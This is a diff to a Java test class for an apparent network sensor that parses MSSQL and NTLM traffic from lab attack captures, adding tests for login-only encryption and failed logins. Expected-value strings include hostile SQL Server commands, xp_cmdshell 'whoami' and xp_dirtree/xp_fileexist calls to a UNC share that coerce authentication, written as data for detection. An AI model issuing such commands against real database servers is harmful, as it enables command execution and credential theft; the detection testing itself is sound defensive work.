@@ -37,7 +37,7 @@ class MssqlAnalyzerTest {
     @Test
     void labMssqlclientLoginWithNtlmAndItsBatches() throws Exception {
         for (String name : new String[]{"atk_mssqlclient.i014.pcap", "atk_mssqlclient.i010.pcap"}) {
-            List<SensorEvent> ev = Replay.events(Captures.path("/pcaps/carriers/" + name), Decoders.forWorker());
+            List<SensorEvent> ev = Replay.events(Captures.lab(name), Decoders.forWorker());
             MssqlPrelogin p = RecordingContext.of(ev, MssqlPrelogin.class).get(0);
             assertEquals(MssqlEvent.ENCRYPTION_NONE, p.encryption(), name);
             assertEquals(0, p.clientEncryption());
@@ -55,15 +55,50 @@ class MssqlAnalyzerTest {
             List<String> batches = RecordingContext.of(ev, MssqlBatch.class).stream().map(MssqlBatch::textPrefix).toList();
             assertTrue(batches.contains("exec master..xp_cmdshell 'whoami'\r\n"), batches.toString());
             assertTrue(batches.contains("EXEC master..xp_dirtree '\\\\10.99.0.2\\share'\r\n"), batches.toString());
+            assertTrue(batches.contains("EXEC master.dbo.xp_fileexist '\\\\10.99.0.2\\share\\report.xlsx'\r\n"),
+                    batches.toString());
+        }
+    }
+
+    /** Lab: login-only encryption (PRELOGIN ENCRYPT_OFF): the LOGIN7 is TLS, the SSPI AUTHENTICATE and batches are not. */
+    @Test
+    void labLoginOnlyEncryptionStillShowsTheSspiAuthenticateAndTheBatches() throws Exception {
+        for (String name : new String[]{"atk_mssqlclient_tls.i014.pcap", "atk_mssqlclient_tls.i010.pcap"}) {
+            List<SensorEvent> ev = Replay.events(Captures.lab(name), Decoders.forWorker());
+            assertEquals(MssqlEvent.ENCRYPTION_LOGIN_ONLY, RecordingContext.of(ev, MssqlPrelogin.class).get(0).encryption(),
+                    name);
+            MssqlLogin l = RecordingContext.of(ev, MssqlLogin.class).get(0);
+            assertTrue(l.encryptedLogin() && l.success() && l.answered(), name);
+            NtlmEvent.NtlmAuthenticate a = RecordingContext.of(ev, NtlmEvent.NtlmAuthenticate.class).get(0);
+            assertEquals("da_carol", a.user(), name);
+            assertEquals(Carrier.MSSQL, a.carrier());
+            assertTrue(RecordingContext.of(ev, MssqlBatch.class).stream().map(MssqlBatch::textPrefix)
+                    .anyMatch(t -> t.startsWith("exec master..xp_cmdshell 'whoami'")), name);
+        }
+    }
+
+    /** Lab: a wrong password: the responder answers the SSPI AUTHENTICATE with ERROR 18456 and no LOGINACK. */
+    @Test
+    void labFailedLoginCarriesError18456() throws Exception {
+        for (String name : new String[]{"atk_mssqlclient_badpw.i014.pcap", "atk_mssqlclient_badpw.i010.pcap"}) {
+            List<SensorEvent> ev = Replay.events(Captures.lab(name), Decoders.forWorker());
+            MssqlLogin l = RecordingContext.of(ev, MssqlLogin.class).get(0);
+            assertTrue(l.answered() && !l.success(), name);
+            assertEquals(18456, l.errorNumber(), name);
+            assertEquals("Login failed for user 'LAB\\da_carol'.", l.errorMessage(), name);
+            NtlmEvent.NtlmAuthenticate a = RecordingContext.of(ev, NtlmEvent.NtlmAuthenticate.class).get(0);
+            assertEquals("da_carol", a.user(), name);
+            assertEquals(18456, a.status(), "the AUTHENTICATE's outcome is the login error");
+            assertEquals(List.of(), RecordingContext.of(ev, MssqlBatch.class), name);
         }
     }
 
     @Test
     void batchTextIsABoundedPrefix() throws Exception {
-        List<SensorEvent> ev = Replay.events(Captures.path("/pcaps/carriers/atk_mssqlclient.i014.pcap"),
+        List<SensorEvent> ev = Replay.events(Captures.lab("atk_mssqlclient.i014.pcap"),
                 List.of(new MssqlAnalyzerFactory(new MssqlLimits(512, 16), null)));
         List<MssqlBatch> b = RecordingContext.of(ev, MssqlBatch.class);
-        assertEquals(5, b.size());
+        assertEquals(7, b.size());
         assertEquals("exec master.dbo.", b.get(2).textPrefix(), "16 characters of the sp_configure batch");
         assertTrue(b.get(2).truncated());
         assertEquals("select @@version", b.get(1).textPrefix());
